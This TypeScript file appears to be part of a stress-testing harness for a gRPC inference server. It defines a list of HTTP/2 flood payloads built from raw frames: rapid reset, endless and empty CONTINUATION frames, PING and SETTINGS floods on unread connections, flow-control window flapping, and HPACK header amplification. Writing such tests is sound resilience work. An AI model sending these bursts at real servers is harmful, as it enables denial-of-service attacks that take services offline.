import { flag, frame, frameType, hpackLiteral } from "../clients/http2-frames.ts";
import {
  headersFrame,
  type RawHttp2Options,
  requestHeaders,
  settingsPayload,
} from "../clients/raw-http2.ts";

const type = { ...frameType, priority: 2, reset: 3, ping: 6, windowUpdate: 8 };
const cancelCode = Buffer.from([0, 0, 0, 8]);
const initialWindowSize = 4; // RFC 9113, 6.5.2

const inferPath = "/inference.GRPCInferenceService/ModelInfer";
const request = requestHeaders(inferPath);

/** `count` frames or groups of frames, for the streams from `first` on. */
function forStreams(first: number, count: number, make: (stream: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(first + 2 * index)));
}

/** A cruel client: what it sends over and over, and how it differs from a kind one. */
export interface Flood {
  readonly name: string;
  readonly connection?: RawHttp2Options;
  /** Comes first on each connection. */
  readonly opening?: Uint8Array;
  /** Streams that a burst uses up. */
  readonly streams: number;
  readonly burst: (firstStream: number) => Uint8Array;
}

const hundred = (bytes: Uint8Array) => Buffer.concat(Array.from({ length: 100 }, () => bytes));

export const floods: readonly Flood[] = [
  {
    name: "rapid reset",
    streams: 100,
    burst: (first) =>
      forStreams(first, 100, (stream) =>
        Buffer.concat([
          headersFrame(stream, request),
          frame({ type: type.reset, stream, payload: cancelCode }),
        ]),
      ),
  },
  {
    name: "requests that make the server reset them",
    streams: 100,
    // RFC 9113, 6.9: an increment of 0 is a stream error.
    burst: (first) =>
      forStreams(first, 100, (stream) =>
        Buffer.concat([
          headersFrame(stream, request),
          frame({ type: type.windowUpdate, stream, payload: Buffer.alloc(4) }),
        ]),
      ),
  },
  {
    name: "calls that nobody waits for, on a connection that is not read",
    connection: { reads: false },
    streams: 100,
    burst: (first) =>
      forStreams(first, 100, (stream) => headersFrame(stream, request, flag.endStream)),
  },
  {
    name: "CONTINUATION without an end",
    opening: frame({ type: type.headers, stream: 1, payload: request }),
    streams: 0,
    burst: () =>
      frame({
        type: type.continuation,
        stream: 1,
        payload: hpackLiteral("withoutIndexing", "x-filler", "x".repeat(16_000)),
      }),
  },
  {
    name: "empty CONTINUATION frames",
    opening: frame({ type: type.headers, stream: 1, payload: request }),
    streams: 0,
    burst: () => hundred(frame({ type: type.continuation, stream: 1 })),
  },
  {
    name: "PING on a connection that is not read",
    connection: { reads: false },
    streams: 0,
    burst: () => hundred(frame({ type: type.ping, payload: Buffer.alloc(8) })),
  },
  {
    name: "SETTINGS on a connection that is not read",
    connection: { reads: false },
    streams: 0,
    burst: () =>
      hundred(
        frame({ type: type.settings, payload: settingsPayload({ [initialWindowSize]: 65_535 }) }),
      ),
  },
  {
    name: "windows that are opened and shut",
    opening: forStreams(1, 1_000, (stream) => headersFrame(stream, request)),
    streams: 0,
    burst: () =>
      Buffer.concat(
        [0, 2 ** 31 - 1].map((size) =>
          frame({ type: type.settings, payload: settingsPayload({ [initialWindowSize]: size }) }),
        ),
      ),
  },
  {
    name: "empty DATA frames",
    opening: headersFrame(1, request),
    streams: 0,
    burst: () => hundred(frame({ type: type.data, stream: 1 })),
  },
  {
    name: "PRIORITY of streams that do not exist",
    streams: 100,
    burst: (first) =>
      forStreams(first, 100, (stream) =>
        frame({ type: type.priority, stream, payload: Buffer.from([0, 0, 0, 0, 16]) }),
      ),
  },
  {
    name: "header lists of 1 MB",
    streams: 1,
    // One entry of the dynamic table, named over and over.
    burst: (stream) =>
      headersFrame(
        stream,
        Buffer.concat([
          request,
          hpackLiteral("incremental", "x-filler", "x".repeat(3_000)),
          Buffer.alloc(350, 0x80 | 62),
        ]),
        flag.endStream,
      ),
  },
];
